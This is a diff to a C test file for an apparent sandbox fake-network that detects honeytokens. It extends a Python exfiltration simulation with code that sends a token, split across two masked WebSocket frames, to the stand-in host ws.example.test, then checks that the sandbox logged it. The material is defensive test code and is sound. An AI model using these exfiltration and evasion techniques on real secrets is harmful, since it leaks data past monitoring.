@@ -4,7 +4,8 @@
  * python3 one-liner that does what exfiltrating code does: resolve a name
  * and POST a honeytoken (raw and base64) to it, send raw TCP and UDP, start
  * TLS over IPv6 with an SNI, fetch a "second stage" from an AAAA name, and
- * smuggle the token hex-encoded in a DNS-over-TCP query. Then every event
+ * smuggle the token hex-encoded in a DNS-over-TCP query, and send it split
+ * across two masked WebSocket frames. Then every event
  * the fake network produced is checked field by field.
  *
  * Must run inside an outer `unshare --net` (ctest does): it refuses to run
@@ -278,7 +279,26 @@ static const char exfil_script[] =
     "n = struct.unpack('>H', recvall(t, 2))[0]\n"
     "a = recvall(t, n)\n"
     "t.close()\n"
-    "print('TCPDNS', a[:2] == b'\\x12\\x34', a[3] & 15, struct.unpack('>H', a[6:8])[0])\n";
+    "print('TCPDNS', a[:2] == b'\\x12\\x34', a[3] & 15, struct.unpack('>H', a[6:8])[0])\n"
+    "import hashlib\n"
+    "def frame(op, p):\n"
+    "    m = os.urandom(4)\n"
+    "    return bytes([op, 0x80 | len(p)]) + m + bytes(b ^ m[i % 4] for i, b in enumerate(p))\n"
+    "key = base64.b64encode(os.urandom(16)).decode()\n"
+    "w = socket.create_connection(('ws.example.test', 80), timeout=10)\n"
+    "w.sendall(('GET /feed HTTP/1.1\\r\\nHost: ws.example.test\\r\\nUpgrade: websocket\\r\\n'\n"
+    "           'Connection: Upgrade\\r\\nSec-WebSocket-Key: %s\\r\\n'\n"
+    "           'Sec-WebSocket-Version: 13\\r\\n\\r\\n' % key).encode())\n"
+    "h = b''\n"
+    "while b'\\r\\n\\r\\n' not in h:\n"
+    "    d = w.recv(1)\n"
+    "    if not d: break\n"
+    "    h += d\n"
+    "want = base64.b64encode(hashlib.sha1((key + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11').encode()).digest())\n"
+    "t = tok.encode()\n"
+    "w.sendall(frame(0x01, b'{\"t\":\"' + t[:10]) + frame(0x80, t[10:] + b'\"}') + frame(0x88, b'\\x03\\xe8'))\n"
+    "print('WS', h.split(b'\\r\\n')[0].decode(), b'Sec-WebSocket-Accept: ' + want in h, readall(w) == b'\\x88\\x00')\n"
+    "w.close()\n";
 
 static const char *const host_ro[] = {"/usr",        "/bin",
                                       "/lib",        "/lib64",
@@ -664,7 +684,23 @@ static int scenario_exfil(pt_tok_scanner *tokens, const char *tok) {
   CHECK(dtok != NULL && strstr(str(dtok, "encoding"), "hex") != NULL,
         "token in the DNS name (%s)", str(dtok, "encoding"));
 
-  /* 8. The API view of the sinkhole. */
+  /* 8. A WebSocket: the handshake answered as clients check it, the
+   * masked frames unmasked for the scan, our close frame. */
+  CHECK(strstr(out, "WS HTTP/1.1 101 Switching Protocols True True\n") != NULL,
+        "WebSocket: 101 with the right Accept, our close frame");
+  CHECK(find(events, "net",
+             json_pack("{s:s,s:i,s:s,s:{s:s,s:{s:i,s:i,s:b}}}", "proto", "tcp",
+                       "port", 80, "hostname", "ws.example.test", "http",
+                       "path", "/feed", "websocket", "frames", 3,
+                       "data_frames", 2, "closed", 1)) != NULL,
+        "net event: WebSocket /feed, 3 frames, closed");
+  CHECK(find(events, "honeytoken",
+             json_pack("{s:s,s:s,s:s,s:s}", "token", "test_token", "encoding",
+                       "raw", "where", "websocket", "hostname",
+                       "ws.example.test")) != NULL,
+        "token split across two masked frames");
+
+  /* 9. The API view of the sinkhole. */
   struct sockaddr_in a4 = {.sin_family = AF_INET};
   inet_pton(AF_INET, sink, &a4.sin_addr);
   const char *nm =
@@ -676,7 +712,7 @@ static int scenario_exfil(pt_tok_scanner *tokens, const char *tok) {
         "name_for(198.51.100.23) = NULL");
   struct pt_fakenet_stats st;
   pt_fakenet_stats(ctx.fn, &st);
-  CHECK(st.conns_refused == 0 && st.sockets == 0 && st.tcp_conns >= 5,
+  CHECK(st.conns_refused == 0 && st.sockets == 0 && st.tcp_conns >= 6,
         "stats: %llu connections, none refused, every socket closed",
         (unsigned long long)st.tcp_conns);
   /* Nothing but what the sample did. */
@@ -686,10 +722,10 @@ static int scenario_exfil(pt_tok_scanner *tokens, const char *tok) {
     if (strcmp(str(e, "kind"), "net") == 0)
       nnet++;
   }
-  CHECK(nnet == 5, "exactly 5 net events (got %zu)", nnet);
+  CHECK(nnet == 6, "exactly 6 net events (got %zu)", nnet);
 
 
-  /* 9. The next phase: the same fake network in a new jail. */
+  /* 10. The next phase: the same fake network in a new jail. */
   jail_result_free(&res);
   static const char phase2[] =
       "import socket\n"
